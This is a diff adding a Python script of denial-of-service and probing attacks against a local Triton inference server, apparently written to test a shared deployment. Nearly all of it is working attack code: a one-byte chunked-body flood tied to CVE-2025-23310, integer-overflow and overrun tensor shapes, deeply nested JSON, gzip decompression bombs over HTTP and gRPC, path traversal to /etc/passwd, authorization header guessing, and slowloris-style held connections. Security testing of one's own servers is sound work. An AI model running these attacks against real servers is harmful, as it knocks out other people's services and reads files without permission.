@@ -1,0 +1,235 @@
+"""What a neighbour on the machine can send to a server: each is one request, or a few, that ended or corrupted Triton 2.51.
+
+A script for another user: ``python attacks.py NAME HTTP-PORT GRPC-PORT``. It prints what came back, at most a line for each request, and
+ends by itself: every attack is bounded in bytes, in connections and in time.
+"""
+
+from __future__ import annotations
+
+import itertools
+import json
+import socket
+import sys
+import time
+import zlib
+from collections.abc import Callable, Iterator
+
+# Seconds that an attack waits for an answer.
+_PATIENCE_S = 20.0
+_HOST = "127.0.0.1"
+_ADD_SUB = "/v2/models/add_sub/infer"
+_STRINGS = "/v2/models/strings/infer"
+CONNECTIONS = 1000
+
+
+def send(port: int, head: str, body: Iterator[bytes] | bytes = b"", patience_s: float = _PATIENCE_S) -> str:
+    """Send raw bytes, as far as they are taken, and return the first line of the answer."""
+    try:
+        with socket.create_connection((_HOST, port), timeout=patience_s) as connection:
+            try:
+                connection.sendall(head.encode("latin-1"))
+                for part in [body] if isinstance(body, bytes) else body:
+                    connection.sendall(part)
+            except (ConnectionError, TimeoutError) as error:
+                # It may have answered before it had everything.
+                print("cut:", type(error).__name__)
+            return connection.recv(4096).split(b"\r\n", 1)[0].decode("latin-1") or "closed"
+    except OSError as error:
+        return type(error).__name__
+
+
+def post(port: int, path: str, body: bytes, headers: str = "") -> str:
+    """Send one HTTP request with a body."""
+    return send(port, f"POST {path} HTTP/1.1\r\nHost: x\r\n{headers}Content-Length: {len(body)}\r\n\r\n", body)
+
+
+def _add_sub(shape: str, data: str) -> bytes:
+    return f'{{"inputs":[{{"name":"INPUT0","datatype":"FP32","shape":[{shape}],"data":{data}}}]}}'.encode()
+
+
+def chunks(http: int, path: str = _ADD_SUB, number: int = 800_000) -> str:
+    """CVE-2025-23310: a body in chunks of one byte each."""
+    part = b"1\r\na\r\n" * 1000
+    body = itertools.chain((part for _ in range(number // 1000)), [b"0\r\n\r\n"])
+    return send(http, f"POST {path} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", body)
+
+
+def chunks_where_no_secret_is_needed(http: int) -> list[str]:
+    """The same to paths that answer everybody, and to those of the owner."""
+    paths = ("/v2", "/v2/health/ready", "/v2/models/add_sub", "/v2/models/add_sub/config", "/v2/models/add_sub/stats", "/metrics")
+    owners = ("/v2/repository/index", "/v2/logging", "/v2/trace/setting", "/v2/systemsharedmemory/region/x/register")
+    return [f"{path} {chunks(http, path)}" for path in (*paths, *owners)]
+
+
+def overflow(http: int) -> str:
+    """A shape whose size in bytes is more than 64 bits hold."""
+    return post(http, _ADD_SUB, _add_sub(str(2**63 - 1), "[1.0]"))
+
+
+def overrun(http: int) -> str:
+    """A shape whose size in bytes comes out as 16, and a long list."""
+    return post(http, _ADD_SUB, _add_sub(str(2**62 + 4), json.dumps([1.0] * 100_000)))
+
+
+def nested(http: int) -> str:
+    """Lists in lists, 40,000 deep."""
+    return post(http, _ADD_SUB, _add_sub("1", "[" * 40_000 + "]" * 40_000))
+
+
+def memory(http: int) -> str:
+    """A shape of 8 GB with one number."""
+    return post(http, _ADD_SUB, _add_sub(str(2**31), "[1.0]"))
+
+
+def bomb(http: int, path: str = _ADD_SUB) -> str:
+    """0.9 MB that unpack to 900 MB."""
+    packer = zlib.compressobj(9, wbits=31)
+    body = b"".join([*(packer.compress(bytes(1_000_000)) for _ in range(900)), packer.flush()])
+    return post(http, path, body, "Content-Encoding: gzip\r\n")
+
+
+def dimension(http: int) -> str:
+    """A dimension of 2^62 without data, over HTTP."""
+    head = json.dumps({"inputs": [{"name": "TEXT", "datatype": "BYTES", "shape": [2**62], "parameters": {"binary_data_size": 0}}]}).encode()
+    return post(http, _STRINGS, head, f"Inference-Header-Content-Length: {len(head)}\r\n")
+
+
+def classes(http: int) -> str:
+    """The best class of an output of strings."""
+    inputs = [{"name": "TEXT", "datatype": "BYTES", "shape": [1], "data": ["a"]}]
+    return post(http, _STRINGS, json.dumps({"inputs": inputs, "outputs": [_class("ECHO")]}).encode())
+
+
+def no_classes(http: int) -> str:
+    """The best class of an empty output."""
+    inputs = [{"name": "TEXT", "datatype": "BYTES", "shape": [0], "data": []}]
+    return post(http, _STRINGS, json.dumps({"inputs": inputs, "outputs": [_class("LENGTH")]}).encode())
+
+
+def _class(output: str) -> dict[str, object]:
+    return {"name": output, "parameters": {"classification": 1}}
+
+
+def climbing(http: int) -> list[str]:
+    """Names that lead out of the repository, encoded in every usual way."""
+    names = ("../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..\\..\\etc\\passwd", "add_sub/../../../etc/passwd")
+    ends = ("", "/config", "/ready", "/versions/../config")
+    paths = [f"/v2/models/{name}{end}" for name in names for end in ends]
+    return [f"{path} {send(http, f'GET {path} HTTP/1.1{chr(13)}{chr(10)}Host: x{chr(13)}{chr(10)}{chr(13)}{chr(10)}')}" for path in paths]
+
+
+def guesses(http: int) -> list[str]:
+    """Wrong secrets, and the right name in wrong places."""
+    body = json.dumps(
+        {"inputs": [{"name": name, "datatype": "FP32", "shape": [16], "data": [1.0] * 16} for name in ("INPUT0", "INPUT1")]}
+    ).encode()
+    names = ("authorization", "Authorization", "triton-grpc-protocol-authorization", "course-admin-key", "x-authorization", "cookie")
+    values = ("", "Bearer", "Bearer ", "Bearer guess", "Bearer $COURSE_TOKEN", "Bearer *", "Basic eDp5", "--private-argument-1")
+    return [f"{name}:{value} {post(http, _ADD_SUB, body, f'{name}: {value}{chr(13)}{chr(10)}')}" for name in names for value in values]
+
+
+def idle(port: int, seconds: float = 8.0) -> str:
+    """Connections that say nothing."""
+    return _hold(port, b"", seconds)
+
+
+def slow(port: int, seconds: float = 8.0) -> str:
+    """Connections that send a byte of a header now and then."""
+    return _hold(port, b"GET /v2 HTTP/1.1\r\nHost:", seconds)
+
+
+def _hold(port: int, begin: bytes, seconds: float) -> str:
+    held: list[socket.socket] = []
+    end = time.monotonic() + seconds
+    for _ in range(CONNECTIONS):
+        connection = socket.socket()
+        held.append(connection)
+        connection.setblocking(False)
+        connection.connect_ex((_HOST, port))
+    while begin and time.monotonic() < end:
+        for connection in held:
+            try:
+                connection.send(begin)
+            except OSError:  # not connected, or thrown out
+                continue
+        begin = b"x"
+        time.sleep(0.5)
+    print("held", flush=True)
+    time.sleep(max(0.0, end - time.monotonic()))
+    return f"{len(held)} connections"
+
+
+def grpc_call(port: int, fill: Callable[..., object], packed: bool = False) -> str:
+    """Send one inference request over gRPC that ``fill`` completes."""
+    import grpc
+    from tritonclient.grpc import service_pb2
+
+    request = service_pb2.ModelInferRequest(model_name="strings")
+    fill(request)
+    options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
+    with grpc.insecure_channel(f"{_HOST}:{port}", options) as channel:
+        call = channel.unary_unary(
+            "/inference.GRPCInferenceService/ModelInfer", service_pb2.ModelInferRequest.SerializeToString, lambda answer: answer
+        )
+        try:
+            call(request, timeout=_PATIENCE_S, compression=grpc.Compression.Gzip if packed else None)
+        except grpc.RpcError as error:
+            return f"{error.code().name} {error.details()[:120]}"
+    return "OK"
+
+
+def grpc_dimension(grpc: int) -> str:
+    """A dimension of 2^62 without data, over gRPC."""
+
+    def fill(request: object) -> None:
+        tensor = request.inputs.add(name="TEXT", datatype="BYTES", shape=[2**62])
+        tensor.contents.bytes_contents.extend([])
+        request.raw_input_contents.append(b"")
+
+    return grpc_call(grpc, fill)
+
+
+def grpc_classes(grpc: int) -> str:
+    """The best class of an output of strings, over gRPC."""
+
+    def fill(request: object) -> None:
+        request.inputs.add(name="TEXT", datatype="BYTES", shape=[1]).contents.bytes_contents.append(b"a")
+        request.outputs.add(name="ECHO").parameters["classification"].int64_param = 1
+
+    return grpc_call(grpc, fill)
+
+
+def grpc_bomb(grpc: int) -> str:
+    """0.5 MB that unpack to 500 MB, over gRPC."""
+    return grpc_call(grpc, lambda request: request.raw_input_contents.append(bytes(500_000_000)), packed=True)
+
+
+def candidates(http: int, number: int = 10_000) -> str:
+    """A jet with more candidates than any has."""
+    head: dict[str, list[dict[str, object]]] = {"inputs": []}
+    body = b""
+    for name, rows, length in (
+        ("pf_points", 2, number),
+        ("pf_features", 20, number),
+        ("pf_mask", 1, number),
+        ("sv_points", 2, 5),
+        ("sv_features", 11, 5),
+        ("sv_mask", 1, 5),
+    ):
+        data = bytes(4 * rows * length)
+        shape = [1, rows, length]
+        head["inputs"].append({"name": name, "datatype": "FP32", "shape": shape, "parameters": {"binary_data_size": len(data)}})
+        body += data
+    text = json.dumps(head).encode()
+    return post(http, "/v2/models/particlenet_AK4/infer", text + body, f"Inference-Header-Content-Length: {len(text)}\r\n")
+
+
+OVER_GRPC = (grpc_dimension, grpc_classes, grpc_bomb)
+OVER_HTTP = (chunks, overflow, overrun, nested, memory, bomb, dimension, classes, no_classes, candidates)
+ON_ALL_PATHS = (chunks_where_no_secret_is_needed, climbing, guesses)
+HELD = (idle, slow)
+
+if __name__ == "__main__":
+    known = {attack.__name__: attack for attack in (*OVER_HTTP, *OVER_GRPC, *ON_ALL_PATHS, *HELD)}
+    came = known[sys.argv[1]](int(sys.argv[2]))
+    print("\n".join([came] if isinstance(came, str) else came))
